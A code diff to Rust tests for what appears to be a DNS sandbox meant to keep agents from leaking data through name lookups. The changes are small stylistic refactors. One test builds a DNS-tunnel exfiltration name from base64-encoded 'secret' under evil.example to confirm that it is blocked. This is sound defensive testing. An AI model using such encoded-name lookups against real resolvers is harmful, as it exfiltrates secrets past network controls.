@@ -122,7 +122,7 @@ impl World {
 fn zone(port: u16) -> String {
     let rebound = REBOUND.map(|(record, _)| format!("{}.target.test. {}\n", owner(record), data(record))).concat();
     let addresses = |name: &str, count: u8| {
-        (1..=count).map(|n| format!("{name}.target.test. 300 A 198.51.100.{n}\n")).collect::<String>()
+        (1..=count).fold(String::new(), |zone, n| format!("{zone}{name}.target.test. 300 A 198.51.100.{n}\n"))
     };
     format!(
         "www.target.test. 250 A 192.0.2.10\nwww.target.test. 250 AAAA 2001:db8::10\n\
@@ -248,7 +248,7 @@ fn the_end_of_a_chain_belongs_to_the_name_that_was_asked() {
 /// The tunnel test: what an agent may not ask never arrives at a server outside.
 #[test]
 fn nothing_leaves_by_way_of_names() {
-    const RESOLVE: &str = r#"
+    const RESOLVE: &str = r"
 import pycares, select, socket, sys, time
 for name in sys.argv[1:]:
     try:
@@ -268,7 +268,7 @@ for name in sys.argv[1:]:
             channel.process_fd(fd, pycares.ARES_SOCKET_BAD)
         if not ready[0]:
             channel.process_fd(pycares.ARES_SOCKET_BAD, pycares.ARES_SOCKET_BAD)
-"#;
+";
     let world = World::new();
     let long = format!("{0}.{0}.{0}.evil.example", "c2VjcmV0".repeat(7));
     let attempts = [
@@ -446,7 +446,7 @@ int main(int argc, char **argv) {
     return 0;
 }
 "#;
-    const C_ARES: &str = r#"
+    const C_ARES: &str = r"
 import pycares, select, socket, sys, time
 channel = pycares.Channel(timeout=5, tries=1)
 channel.gethostbyname(sys.argv[1], socket.AF_INET, lambda result, error: print(result.addresses if result else error))
@@ -457,7 +457,7 @@ while time.time() < end:
         break
     for fd in select.select(readable, writable, [], 0.1)[0]:
         channel.process_fd(fd, pycares.ARES_SOCKET_BAD)
-"#;
+";
     let world = World::new();
     let file = |name: &str| world.env.dir().join(name).display().to_string();
     fs::write(file("musl.c"), MUSL).unwrap();
